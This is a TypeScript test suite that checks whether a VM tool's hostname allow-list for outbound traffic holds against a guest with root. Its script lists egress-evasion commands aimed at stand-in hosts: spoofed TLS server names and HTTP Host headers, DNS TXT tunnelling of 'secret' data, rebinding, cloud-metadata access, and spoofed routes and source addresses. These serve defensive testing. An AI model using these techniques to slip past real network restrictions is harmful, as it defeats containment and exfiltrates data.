import { beforeAll, describe, expect } from "bun:test";
import { writeFileSync } from "node:fs";
import { helloOf } from "../../src/net/policy/first-bytes.fixture.ts";
import type { Home } from "../support/home.ts";
import { SMALL } from "../support/machines.ts";
import { OrdinaryMachines } from "../support/ordinary.ts";
import { CLOSED, EVIL, INNER, OUTER } from "../support/outside/addresses.ts";
import { useOutside } from "../support/outside/outside.ts";
import { onBoth, onQemu } from "../support/register.ts";

/** What a guest with root tries to get around a list, on every way on which a machine is started. */

const outside = useOutside();

const DNS = ["--dns", "127.0.0.1:5353"];
const LIST = [...DNS, "--allow-host", "allowed.test"];

let hello = { good: "", evil: "" };
beforeAll(async () => {
  const base64 = async (name: string) => (await helloOf(name)).toString("base64");
  hello = { good: await base64("allowed.test"), evil: await base64("evil.test") };
});

/** How many lines a script prints. */
let tried = 0;

/** Each line: what was tried, and what came of it. */
function script(): string {
  const raw = (address: string, port: number, text: string) =>
    `printf '${text}' | nc -w 3 ${address} ${port} | tail -n 1`;
  const request = (host: string) => `GET / HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n`;
  const tls = (address: string, base64: string) =>
    `echo ${base64} | base64 -d | nc -w 3 ${address} 443 | tail -n 1`;
  const get = (url: string) => `wget -T 3 -qO- ${url}`;
  const udp = (address: string, port: number) => `echo hi | timeout 2 nc -u -w 1 ${address} ${port}`;
  const tries: Record<string, string> = {
    [EARLY]: get(`http://${OUTER}:8080/`),
    "the allowed name": get("http://allowed.test/"),
    "the same on another port": get("http://allowed.test:8080/"),
    "its address": get(`http://${OUTER}:8080/`),
    "its UDP": udp(OUTER, 5000),
    "TLS with its name": tls(OUTER, "$GOOD"),
    "a chain of names": get("http://www.allowed.test:8080/"),
    "another name": get("http://evil.test:8080/"),
    "another address": get(`http://${EVIL}:8080/`),
    "TLS with another name": tls(OUTER, "$EVIL"),
    "TLS without a name": raw(OUTER, 443, "\\026\\003\\001"),
    "HTTP with another name": raw(OUTER, 80, request("evil.test")),
    "HTTP with two names": raw(
      OUTER,
      80,
      `GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: evil.test\\r\\n\\r\\n`,
    ),
    "HTTP through a proxy's words": raw(
      OUTER,
      80,
      "GET http://evil.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n",
    ),
    "SSH on 443": raw(OUTER, 443, "SSH-2.0-x\\r\\n"),
    QUIC: udp(OUTER, 443),
    "an own DNS server": `nslookup evil.test ${EVIL} | grep Name`,
    "an own DNS server over TCP": `${get(`http://${EVIL}:53/`)}`,
    "DNS over TLS": get(`http://${EVIL}:853/`),
    "a tunnel of questions": "nslookup -type=txt secret.data.evil.test | grep text",
    "a name that leads inside": get("http://rebind.allowed.test:8080/"),
    "where it leads": get(`http://${INNER}:8080/`),
    metadata: get(`http://${CLOSED}/`),
    "the host's loopback": get("http://100.96.0.1:8080/"),
    "the host by its name": get("http://host.smolvm.internal:8080/"),
    "the gateway as a proxy": raw("100.96.0.1", 8080, request("evil.test")),
    "a mapped address": `nc -w 2 ::ffff:${INNER} 8080 </dev/null && echo open`,
    "a NAT64 address": "nc -w 2 64:ff9b::a09:909 8080 </dev/null && echo open",
    "another source": `ip addr add 192.0.2.9/32 dev eth0; ip route add ${OUTER}/32 via 100.96.0.1 src 192.0.2.9; ${get(`http://${OUTER}:8080/`)}; ip route del ${OUTER}/32`,
    "a route of its own": `ip route add ${EVIL}/32 dev eth0; ${get(`http://${EVIL}:8080/`)}`,
    "a neighbour of its own": `ip neigh add ${EVIL} lladdr 02:53:4d:00:00:01 dev eth0; ${get(`http://${EVIL}:8080/`)}`,
    ping: `ping -c 1 -W 2 ${EVIL} | grep 'bytes from'`,
  };
  tried = Object.keys(tries).length;
  const lines = Object.entries(tries).map(
    ([name, command]) => `r=$({ ${command}; } 2>/dev/null); r=$(echo $r); echo "${name}: \${r:-no}"`,
  );
  return [`GOOD=${hello.good}`, `EVIL=${hello.evil}`, ...lines].join("\n");
}

const OPEN = {
  "the allowed name": `served by ${OUTER}`,
  "the same on another port": `served by ${OUTER}`,
  "its address": `served by ${OUTER}`,
  "its UDP": "echo hi",
  "TLS with its name": `served by ${OUTER}`,
  "a chain of names": "served by 203.0.113.11",
};

/** Open when somebody has asked for the name a minute ago. */
const EARLY = "address, before its name was asked for";

/**
 * All that came of it is what was allowed, and nobody was asked about what was not.
 *
 * @param again the machine has asked for the names before
 */
function check(output: string, again = false): void {
  const results = output
    .trim()
    .split("\n")
    .map((line) => line.split(/: (.*)/s, 2) as [string, string]);
  expect(results.length).toBe(tried);
  const open = results.filter(([name, result]) => result !== "no" && !(again && name === EARLY));
  expect(Object.fromEntries(open)).toEqual(OPEN);
  expect(outside.questions.filter((question) => /evil|secret|leaked/.test(question))).toEqual([]);
}

const LIMIT = 180;

describe("a list of names holds against a guest with root", () => {
  const inOneCommand = async (home: Home) => {
    const { output, exitCode, stderr } = await home.run(["sh", "-c", script()], {
      options: LIST,
      seconds: LIMIT,
    });
    expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: "" });
    check(output);
  };
  onBoth("in a machine that lives for one command", () => inOneCommand(outside), LIMIT);
  onQemu(
    "in such a machine of an ordinary user of the host",
    async () => {
      const ordinary = new OrdinaryMachines(() => outside.inside());
      try {
        await inOneCommand(ordinary);
        await ordinary.expectNothingLeft();
      } finally {
        ordinary.remove();
      }
    },
    LIMIT,
  );

  onQemu(
    "in a machine that was made and started, at its next start, and in its copy",
    async () => {
      await outside.create("box", ...LIST);
      await outside.ok("start", "box");
      check(await outside.sh("box", script()));
      await outside.ok("stop", "box");
      await outside.ok("clone", "box", "copy");
      await outside.ok("start", "box");
      check(await outside.sh("box", script()));
      await outside.ok("delete", "-f", "box");
      await outside.ok("start", "copy");
      check(await outside.sh("copy", script()));
      await outside.ok("delete", "-f", "copy");
    },
    LIMIT * 2,
  );

  onQemu(
    "as the machine's own command, in its init commands, and after the guest has started anew",
    async () => {
      await outside.ok(
        "run",
        "-d",
        "--name",
        "job",
        ...SMALL,
        ...LIST,
        "--init",
        `{ ${script()}\n} >/root/init.txt`,
        "--restart",
        "always",
        "--",
        "sh",
        "-c",
        `{ ${script()}\n} >/root/$(cat /proc/sys/kernel/random/boot_id).txt; exec sleep 1000`,
      );
      check(await outside.sh("job", "cat /root/init.txt"));
      const finished =
        "while ! ls /root/*-*.txt >/dev/null 2>&1 || ! grep -q '^ping' /root/$(cat /proc/sys/kernel/random/boot_id).txt; do sleep 1; done; cat /root/$(cat /proc/sys/kernel/random/boot_id).txt";
      check(await outside.sh("job", finished), true);
      await outside.powerCut("job");
      check(await outside.sh("job", finished), true);
      await outside.ok("delete", "-f", "job");
    },
    LIMIT * 2,
  );

  onQemu(
    "from a Smolfile",
    async () => {
      const path = `${outside.path}/Smolfile`;
      writeFileSync(path, 'net = true\n[network]\nallow_hosts = ["allowed.test"]\n');
      const { output } = await outside.run(["sh", "-c", script()], {
        options: ["-s", path, ...DNS],
        seconds: LIMIT,
      });
      check(output);
    },
    LIMIT,
  );
});

describe("other policies", () => {
  const get = (url: string) => `wget -T 3 -qO- ${url} 2>/dev/null || echo no`;
  const tries = async (options: string[], ...commands: string[]) => {
    const { output, stderr, exitCode } = await outside.run(["sh", "-c", commands.join("; ")], {
      options: [...DNS, ...options],
    });
    expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: "" });
    return output.trim().split("\n");
  };
  const served = (address: string) => `served by ${address}`;

  onQemu("the whole network leaves out what is closed", async () => {
    expect(
      await tries(
        ["--net"],
        get(`http://${EVIL}/`),
        get("http://evil.test/"),
        get(`http://${INNER}/`),
        get(`http://${CLOSED}/`),
        get("http://100.96.0.1/"),
        get("http://[2001:db8::10]/"),
      ),
    ).toEqual([served(EVIL), served(EVIL), served(INNER), "no", "no", "served by 2001:db8::10"]);
  });

  onQemu("ranges judge addresses, and leave names alone", async () => {
    expect(
      await tries(
        ["--allow-cidr", `${INNER}/8:8080`],
        "nslookup evil.test | grep -c 198.51",
        get(`http://${INNER}:8080/`),
        get(`http://${INNER}/`),
        get("http://evil.test/"),
      ),
    ).toEqual(["1", served(INNER), "no", "no"]);
  });

  onQemu("this host's loopback, when it is meant", async () => {
    expect(
      await tries(
        ["--outbound-localhost-only"],
        get("http://host.smolvm.internal:8080/"),
        get(`http://${EVIL}/`),
        "nslookup evil.test >/dev/null || echo unknown",
      ),
    ).toEqual([served("127.0.0.1"), "no", "unknown"]);
  });

  onQemu("no network at all without a word about it, and nothing outside with a port alone", async () => {
    const { output } = await outside.run(["ls", "/sys/class/net"]);
    expect(output.split(/\s+/)).not.toContain("eth0");
    const ports = await outside.run(
      [
        "sh",
        "-c",
        `ls /sys/class/net; ${get(`http://${EVIL}/`)}; nslookup allowed.test >/dev/null || echo unknown`,
      ],
      { options: ["-p", "0:80"] },
    );
    expect(ports.output).toMatch(/eth0[\s\S]*no\nunknown\n$/);
  });

  onQemu("what is said about server names, and names with addresses of their own", async () => {
    const evil = `echo ${hello.evil} | base64 -d | nc -w 3 ${OUTER} 443 | tail -n 1`;
    expect(
      await tries(
        ["--allow-host", "allowed.test", "--no-sni-check", "--add-host", `db:${INNER}`, "--allow-host", "db"],
        "nslookup allowed.test >/dev/null",
        evil,
        get("http://db:8080/"),
      ),
    ).toEqual([served(OUTER), served(INNER)]);
  });
});

describe("a list that changes while the machine runs", () => {
  onQemu("holds from that moment on", async () => {
    const evil = "wget -T 3 -qO- http://evil.test:8080/ 2>/dev/null || echo no";
    await outside.create("live", ...LIST);
    await outside.ok("start", "live");
    expect(await outside.sh("live", evil)).toBe("no\n");
    expect(await outside.ok("update", "live", "--allow-host", "evil.test:8080")).toEndWith(
      "Changes have taken effect\n",
    );
    expect(await outside.sh("live", evil)).toBe(`served by ${EVIL}\n`);
    await outside.ok("update", "live", "--remove-allow-host", "evil.test:8080");
    expect(await outside.sh("live", evil)).toBe("no\n");
    // Also the address that was opened before.
    expect(await outside.sh("live", `wget -T 3 -qO- http://${EVIL}:8080/ 2>/dev/null || echo no`)).toBe(
      "no\n",
    );
    expect(await outside.refusal("update", "live", "--no-net")).toMatchObject({ code: "machine.running" });
    outside.questions.length = 0;
    await outside.ok("delete", "-f", "live");
  });
});

describe("what was decided", () => {
  onQemu("is in the log, explained, and becomes a list", async () => {
    await outside.ok(
      "run",
      "-d",
      "--name",
      "log",
      ...SMALL,
      ...DNS,
      "--egress",
      "learn",
      "--",
      "sh",
      "-c",
      "exec sleep 1000",
    );
    await outside.sh(
      "log",
      `wget -T 3 -qO- http://allowed.test/ && wget -T 3 -qO- http://${EVIL}:8080/ && ! wget -T 3 -qO- http://${CLOSED}/ 2>/dev/null`,
    );
    const events = JSON.parse(await outside.ok("egress-events", "--json", "log"));
    expect(events).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          operation: "lookup",
          dest: "allowed.test",
          decision: "allow",
          addresses: [OUTER],
        }),
        expect.objectContaining({
          operation: "connect",
          dest: `${OUTER}:80`,
          name: "allowed.test",
          decision: "allow",
          rule: "--net",
        }),
        expect.objectContaining({
          operation: "close",
          dest: `${OUTER}:80`,
          received: expect.any(Number),
          end: "closed",
        }),
        expect.objectContaining({
          operation: "connect",
          dest: `${CLOSED}:80`,
          decision: "deny",
          rule: "closed: metadata",
        }),
      ]),
    );
    expect(await outside.ok("egress-events", "--denied", "log")).toMatch(
      /connect\s+deny\s+169\.254\.169\.254:80 by closed: metadata\n$/,
    );
    expect(await outside.ok("policy", "learned", "log")).toBe(
      `[network]\nallow_hosts = [\n  "allowed.test:80/tcp",\n]\nallow_cidrs = [\n  "${EVIL}:8080/tcp",\n]\n`,
    );
    expect(await outside.ok("policy", "explain", "log", "example.com:443")).toContain(
      "tcp 443   allowed by --net",
    );
    const denied = await outside.machine(["policy", "explain", "log", CLOSED]);
    expect(denied).toMatchObject({ exitCode: 1 });
    await outside.ok("delete", "-f", "log");
  });
});
